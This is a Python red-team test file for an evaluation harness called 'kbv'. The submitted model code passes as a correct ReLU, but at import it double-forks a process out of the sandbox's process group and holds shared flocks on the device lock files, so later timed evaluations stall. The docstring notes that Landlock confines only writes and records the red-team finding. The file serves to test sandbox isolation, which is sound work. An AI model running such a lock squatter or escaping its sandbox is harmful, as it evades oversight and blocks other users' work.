"""Attack: hold kbv's device lock (src/orchestrate/device_lock.hpp) after the evaluation, so that
every later timed `kbv eval` on the device waits for it (when found, 2026-12-06: on the CPU with
no deadline at all, on a GPU for the waiting backstop, about 7 days; since then at most an hour,
then `internal_error`: docs/timing.md "Turns on a device").

At import: looks for the lock files (the default /tmp/kbv-device-locks, or LOCK_DIRS below) and
reports what it can see. Then forks a grandchild that leaves the sandbox's process group
(setsid, double fork: no parent-death signal), opens each lock file it found read-only (flock
needs no write, and Landlock confines only writes) and takes a shared flock on it, blocking until
its own evaluation lets the exclusive lock go. It holds it for SQUAT_SECONDS, then exits.
The marker `kbv-lock-squatter` is in its process name. Correct ReLU, so the verdict is `correct`.

kbv must conclude: the sandbox cannot see the lock files (a private /tmp; a lock directory
outside the sandbox's reach) and no process of it outlives the evaluation. With
KBV_SANDBOX_NAMESPACES=0 (or wherever user namespaces are not available: Landlock only, no PID
namespace, no cgroup) neither holds: red team of 2026-12-06 (see the report on branch
redteam-lock).
"""
import ctypes
import glob
import os
import sys
import time

import torch
import torch.nn as nn

LOCK_DIRS = ["/tmp/kbv-device-locks"]
SQUAT_SECONDS = 90
libc = ctypes.CDLL(None, use_errno=True)


def report(text):
    print(f"ATTACK device_lock_squat: {text}", file=sys.stderr, flush=True)


found = []
for d in LOCK_DIRS:
    try:
        names = os.listdir(d)
        found += sorted(glob.glob(os.path.join(d, "*.lock")))
        report(f"{d} visible: {names}")
    except OSError as e:
        report(f"{d} not visible: {e}")

if found:
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        libc.prctl(15, ctypes.c_char_p(b"kbv-lock-squatter"), 0, 0, 0)  # PR_SET_NAME
        fds = []
        for path in found:
            try:
                fds.append((path, os.open(path, os.O_RDONLY)))
            except OSError as e:
                report(f"open {path}: {e}")
        report(f"squatter pid {os.getpid()} opened {[p for p, _ in fds]}")
        null = os.open("/dev/null", os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        os.closerange(3, min(fd for _, fd in fds) if fds else 3)
        import fcntl
        for path, fd in fds:
            fcntl.flock(fd, fcntl.LOCK_SH)  # waits for our own evaluation's exclusive lock
        time.sleep(SQUAT_SECONDS)
        os._exit(0)
    os.waitpid(pid, 0)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        return torch.relu(x)
